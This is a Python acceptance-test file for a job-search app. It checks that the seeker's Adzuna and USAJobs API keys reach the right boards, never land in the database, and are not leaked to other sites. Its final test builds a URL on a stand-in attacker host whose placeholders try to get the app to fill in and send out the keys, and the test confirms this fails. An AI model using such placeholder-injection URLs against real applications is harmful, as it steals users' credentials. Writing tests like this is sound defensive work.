"""Boards that are asked with the seeker's own key: the key is sent, and found nowhere afterwards."""

from __future__ import annotations

import sqlite3
import sys
from pathlib import Path

import pytest

from acceptance.stage import Stage
from jobfinder.app import JobFinder
from jobfinder.demo.answer import Answer, json, missing
from jobfinder.demo.incoming import Incoming
from jobfinder.demo.server import DemoWeb
from jobfinder.outside.keys import Adzuna, Keys, USAJobs
from jobfinder.settings import Settings

if sys.version_info >= (3, 14):
    from compression import zstd
else:
    from backports import zstd

ADZUNA = "https://www.adzuna.co.uk/search?q=glazier"
USAJOBS = "https://www.usajobs.gov/Search/Results?k=glazier"
KEYS = Keys(
    adzuna=Adzuna(app_id="id123456", app_key="s3cr3tkey"), usajobs=USAJobs(email="me@x.example", key="k3yk3yk3y")
)
SECRETS = ("id123456", "s3cr3tkey", "k3yk3yk3y", "me@x.example")


class Board:
    """A host that answers its search to whoever brings a key; `asked` is what it was asked."""

    def __init__(self, web: DemoWeb, host: str, answer: Answer) -> None:
        self.asked: list[Incoming] = []
        self.answer = answer
        web.serve(host, "/*", self._say)

    def _say(self, asked: Incoming) -> Answer:
        self.asked.append(asked)
        return self.answer if asked.target != "/robots.txt" else missing()


def found(asked: str) -> Answer:
    """Adzuna's answer, which repeats how it was asked."""
    where = {"display_name": "Leeds", "area": ["UK", "Leeds"]}
    link = "https://www.adzuna.co.uk/jobs/land/ad/4123000001?utm_source=id123456"
    row = {"id": "4123000001", "title": "Glazier", "description": "You glaze.", "location": where, "redirect_url": link}
    return json({"count": 1, "results": [row], "asked": asked})


def with_keys(stage: Stage) -> None:
    """The seeker sets their keys and starts the engine again."""
    stage.finder.close()
    stage.finder = JobFinder.open(
        stage.store, clock=stage.clock, settings=Settings(keys=KEYS), connect_to=[stage.web.connect_to]
    )


@pytest.fixture
def file(tmp_path: Path) -> Path:
    return tmp_path / "jobs.db"


@pytest.fixture
def store_url(file: Path) -> str:
    return f"sqlite:///{file}"


async def test_a_key_is_sent_and_never_kept(stage: Stage, web: DemoWeb, file: Path) -> None:
    adzuna = Board(web, "api.adzuna.com", found("app_id=id123456&app_key=s3cr3tkey"))
    usajobs = Board(web, "data.usajobs.gov", json({"SearchResult": {"SearchResultItems": []}}))
    with_keys(stage)
    submitted = stage.submit(ADZUNA)
    stage.submit(USAJOBS)
    await stage.run()
    assert stage.status(submitted) == "success"
    assert {job["key"] for job in stage.finder.jobs()} == {"job:adzuna:gb:4123000001"}
    assert "app_id=id123456&app_key=s3cr3tkey" in adzuna.asked[-1].target
    asked = {name.lower(): value for name, value in usajobs.asked[-1].headers.items()}
    assert (asked["authorization-key"], asked["user-agent"]) == ("k3yk3yk3y", "me@x.example")
    stage.finder.close()
    assert_nowhere(file)
    stage.finder = stage.open()


def assert_nowhere(file: Path) -> None:
    """No table of the store holds a secret, nor do the bodies that are packed there."""
    with sqlite3.connect(file) as store:
        for (table,) in store.execute("SELECT name FROM sqlite_master WHERE type = 'table'").fetchall():
            for row in store.execute(f"SELECT * FROM {table}"):
                said = repr([unpacked(value) for value in row])
                for secret in SECRETS:
                    assert secret not in said, (table, secret)


def unpacked(value: object) -> object:
    if not isinstance(value, bytes) or not value.startswith(b"\x28\xb5\x2f\xfd"):
        return value
    return zstd.decompress(value)


async def test_without_a_key_nothing_is_asked_and_it_says_what_to_set(stage: Stage, web: DemoWeb) -> None:
    board = Board(web, "api.adzuna.com", found(""))
    submitted = stage.submit(ADZUNA)
    await stage.run()
    assert stage.status(submitted) == "blocked"
    assert "keys.adzuna.app_id is not set" in stage.message(submitted)
    assert board.asked == []
    with_keys(stage)
    again = stage.submit(ADZUNA, force=True)
    await stage.run()
    assert stage.status(again) == "success"


async def test_a_page_that_asks_for_a_key_does_not_get_it(stage: Stage, web: DemoWeb) -> None:
    evil = Board(web, "www.evil.example", missing())
    with_keys(stage)
    stage.submit("https://www.evil.example/jobs?a={adzuna.app_key}&b=%7Badzuna.app_id%7D")
    await stage.run()
    assert evil.asked
    assert not any(secret in asked.target for asked in evil.asked for secret in SECRETS)
